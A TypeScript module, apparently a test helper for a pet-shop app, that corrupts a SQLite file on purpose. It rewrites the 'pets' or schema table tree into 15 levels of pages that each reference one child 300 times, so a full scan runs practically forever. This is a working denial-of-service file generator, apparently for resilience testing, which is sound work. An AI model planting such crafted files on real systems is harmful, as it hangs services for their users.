import Database from 'better-sqlite3';
import { readFileSync, writeFileSync } from 'node:fs';

const [pageSize, references, levels] = [4096, 300, 15];
const [interiorTable, leafTable] = [5, 13];

/** A page of a tree that refers to one other page many times. */
function repeating(child: number): Buffer {
  const page = Buffer.alloc(pageSize);
  page[0] = interiorTable;
  page.writeUInt16BE(references, 3);
  const start = pageSize - references * 5;
  page.writeUInt16BE(start, 5);
  page.writeUInt32BE(child, 8);
  for (let index = 0; index < references; index += 1) {
    const cell = start + index * 5;
    page.writeUInt16BE(cell, 12 + index * 2);
    page.writeUInt32BE(child, cell);
    page[cell + 4] = 1;
  }
  return page;
}

/** Changes the tree of a table of a shop so that reading all of it visits the same pages 300 to the power of 15 times. */
export function repeatPages(path: string, table: 'pets' | 'sqlite_schema'): void {
  const database = new Database(path);
  database.pragma('journal_mode = DELETE');
  const found = database.prepare<[string], number>('SELECT rootpage FROM sqlite_schema WHERE name = ?').pluck().get(table);
  database.close();
  const bytes = readFileSync(path);
  const [root, count] = [found ?? 1, bytes.length / pageSize];
  // The first page begins with the header of the file.
  const start = (root - 1) * pageSize + (root === 1 ? 100 : 0);
  const isLeaf = bytes[start] === leafTable;
  const added: Buffer[] = isLeaf ? [Buffer.from(bytes.subarray(start, start + pageSize))] : [];
  let child = isLeaf ? count + 1 : bytes.readUInt32BE(start + 8);
  for (let level = 0; level < levels; level += 1) {
    added.push(repeating(child));
    child = count + added.length;
  }
  if (isLeaf) repeating(child).copy(bytes, start);
  else bytes.writeUInt32BE(child, start + 8);
  const changed = Buffer.concat([bytes, ...added]);
  changed.writeUInt32BE(changed.length / pageSize, 28);
  changed.writeUInt32BE(changed.readUInt32BE(24), 92);
  writeFileSync(path, changed);
}
